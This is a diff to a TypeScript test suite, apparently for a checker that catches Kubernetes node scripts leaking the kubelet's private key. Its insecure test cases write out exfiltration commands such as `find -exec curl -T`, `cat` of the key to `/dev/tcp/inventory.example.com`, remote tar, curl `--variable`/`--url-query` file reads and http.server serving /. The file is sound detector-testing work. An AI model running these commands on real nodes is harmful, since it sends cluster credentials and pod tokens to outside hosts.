@@ -32,7 +32,7 @@ const IMDS_IP = [
 ];
 
 const insecure: NodeCase[] = [
-    // MISS: find -exec hands each matched file to its program (find(1) "-exec command ;": "the string `{}' is replaced by
+    // Was a MISS (fixed in round 47): find -exec hands each matched file to its program (find(1) "-exec command ;": "the string `{}' is replaced by
     // the current file name"), so curl -T uploads the kubelet's client key (whoever reads the inventory acts as the
     // node: every Secret and token of pods bound there). keepsNodeSecrets judges -exec's program with NO operands
     // (`keepsNodeSecrets(posix.basename(w), [])`), so curl's sendsFile sees no -T and it "keeps". Fix: pass -exec's
@@ -43,7 +43,6 @@ const insecure: NodeCase[] = [
             `find /var/lib/kubelet/pki -name '*.pem' -exec curl -fsS -T {} ${INVENTORY}/ \\;`,
         ]),
         /hands|kubelet/,
-        true,
     ),
     dev(
         "openssl s_client -quiet -connect inventory:443 < kubelet key (s_client sends its standard input)",
@@ -57,7 +56,7 @@ const insecure: NodeCase[] = [
         script("dev-cat-dev-tcp-key-nodes", [`cat ${KEY} > /dev/tcp/inventory.example.com/9000`]),
         /hands|kubelet|printed|dev\/tcp/,
     ),
-    // MISS: GNU tar's archive `user@host:FILE` is remote (GNU tar manual 9.1 "Device Selection": "If the file name
+    // Was a MISS (fixed in round 47): GNU tar's archive `user@host:FILE` is remote (GNU tar manual 9.1 "Device Selection": "If the file name
     // contains a ':', it is interpreted as 'hostname:file name' ... tar will invoke the command rsh ... on the remote
     // machine"; --rsh-command picks ssh): the kubelet's pki leaves the node. tar is in NODE_SECRET_KEEPERS without
     // condition. Fix: tar keeps only when its -f/--file archive is local (no `HOST:` prefix, or --force-local).
@@ -67,7 +66,6 @@ const insecure: NodeCase[] = [
             `tar --rsh-command=/usr/bin/ssh -czf backup@backup.example.com:/srv/nodes/pki.tgz /var/lib/kubelet/pki`,
         ]),
         /hands|kubelet/,
-        true,
     ),
     // MISS: rclone (cobra/pflag, interspersed flags) takes flags after its operands; the copy's destination is
     // `s3remote:...`, a remote. keepsNodeSecrets takes the LAST non-dash word as the destination, here --config's value
@@ -89,7 +87,7 @@ const insecure: NodeCase[] = [
         ]),
         /hands|kubelet/,
     ),
-    // MISS: curl 8.3+ `--variable name@FILE` reads FILE into a variable that `--expand-data '{{name}}'` posts
+    // Was a MISS (fixed in round 47): curl 8.3+ `--variable name@FILE` reads FILE into a variable that `--expand-data '{{name}}'` posts
     // (curl docs/cmdline-opts/variable.md: "Set a variable with name=content or name@file"; everything.curl.dev
     // "Variables"): the node's key is sent. sendsFile does not list --variable (nor --expand-variable). Fix: count
     // `--variable`/`--expand-variable` values `name@FILE` (any FILE but `-` handled as stdin) as sending the file.
@@ -99,18 +97,16 @@ const insecure: NodeCase[] = [
             `curl -fsS --variable "key@${KEY}" --expand-data '{"key":"{{key:json}}"}' ${INVENTORY}`,
         ]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: curl 7.87+ `--url-query name@FILE` loads FILE into the URL's query (everything.curl.dev "Query": "name@filename:
+    // Was a MISS (fixed in round 47): curl 7.87+ `--url-query name@FILE` loads FILE into the URL's query (everything.curl.dev "Query": "name@filename:
     // load data from the given file ... URL encode that data and add that to the query"): the key goes to the
     // inventory host (and its access logs). sendsFile reads `name@FILE` only for --data-urlencode. Fix: add --url-query.
     dev(
         "curl --url-query key@kubelet key (curl 7.87 url-query name@FILE puts the file in the URL)",
         script("dev-curl-url-query-file-nodes", [`curl -fsS --url-query "key@${KEY}" ${INVENTORY}`]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: bash's `coproc [NAME] command` runs command asynchronously in a subshell (bash(1) "Coprocesses"): here
+    // Was a MISS (fixed in round 47): bash's `coproc [NAME] command` runs command asynchronously in a subshell (bash(1) "Coprocesses"): here
     // http.server of cloud-init's working directory / on every address (the kubelet's key, every pod's token). A brace
     // group after coproc is read (round 37), a simple command is not: `coproc` is not in shell.ts WRAPPERS, so the
     // program is "coproc". Fix: add coproc as a wrapper (a simple command after it; NAME only before a compound one).
@@ -118,9 +114,8 @@ const insecure: NodeCase[] = [
         "coproc python3 -m http.server 8080 (bash's coprocess keyword in front of a server of /)",
         script("dev-coproc-http-server-nodes", ["coproc python3 -m http.server 8080"]),
         /serves \/ |http\.server/,
-        true,
     ),
-    // MISS: strace runs its command as a traced child (strace(1): "strace [-o file] ... command [args]"), so
+    // Was a MISS (fixed in round 47): strace runs its command as a traced child (strace(1): "strace [-o file] ... command [args]"), so
     // http.server serves / on every address as root. Not in WRAPPERS (ltrace, valgrind, numactl, cgexec alike):
     // the program is "strace" and no reader or fail-closed rule applies. Fix: list strace/ltrace (-o/-e/-p/-s/-u
     // values) as launchers, or fail closed on a server reader's invocation found after an unknown program.
@@ -128,7 +123,6 @@ const insecure: NodeCase[] = [
         "strace -f -o /var/log/http.trace python3 -m http.server 8080 & (a traced server of /)",
         script("dev-strace-http-server-nodes", ["strace -f -o /var/log/http.trace python3 -m http.server 8080 &"]),
         /serves \/ |http\.server|does not read/,
-        true,
     ),
     // MISS: a server bound to the node's own private address is reached by every pod (pods route to their node's IP,
     // Kubernetes "Cluster Networking": pods can communicate with all agents on the node) and by the VPC, exactly as
@@ -172,7 +166,7 @@ const secure: NodeCase[] = [
             "find /var/lib/kubelet/pki -name '*.pem' -exec openssl x509 -noout -enddate -in {} \\;",
         ]),
     ),
-    // MISS (secure refused): openssl s_client -cert/-key uses the kubelet's key to authenticate TLS and prints the
+    // Was a MISS (fixed in round 47): (secure refused): openssl s_client -cert/-key uses the kubelet's key to authenticate TLS and prints the
     // SERVER's certificate chain and session, never the client key (openssl-s_client(1) -cert/-key: "The client
     // certificate to use"/"The client private key"); stdin is /dev/null. Refused as "copies the key into
     // /var/log/cloud-init-output.log" because openssl is a SECRET_PRINTER unless -noout/x509/dgst. Fix: like curl
@@ -183,7 +177,6 @@ const secure: NodeCase[] = [
             `openssl s_client -connect EXAMPLE.gr7.eu-west-1.eks.amazonaws.com:443 -cert ${KEY} -key ${KEY} -CAfile /etc/kubernetes/pki/ca.crt </dev/null`,
         ]),
         /./,
-        true,
     ),
     dev(
         "cat /var/log/cloud-init-output.log > /dev/tcp/logs.example.com/5140 (a log sent over bash's TCP redirection)",
@@ -233,7 +226,7 @@ const secure: NodeCase[] = [
             'nohup /usr/local/bin/node_exporter --web.listen-address="$NODE_IP:9100" &',
         ]),
     ),
-    // MISS (secure refused): rsync (popt) takes options after its operands, so the destination is
+    // MISS: (secure refused): rsync (popt) takes options after its operands, so the destination is
     // `backup@backup.example.com:/srv/logs/`, a remote path. The pack takes the last word `*.tmp` as the destination
     // and reads the remote `/srv/logs` as a node path in a pod-writable directory ("a root process reads /srv/logs").
     // Same cause as the rclone miss above. Fix: skip option values when picking a copier's operands; never read a
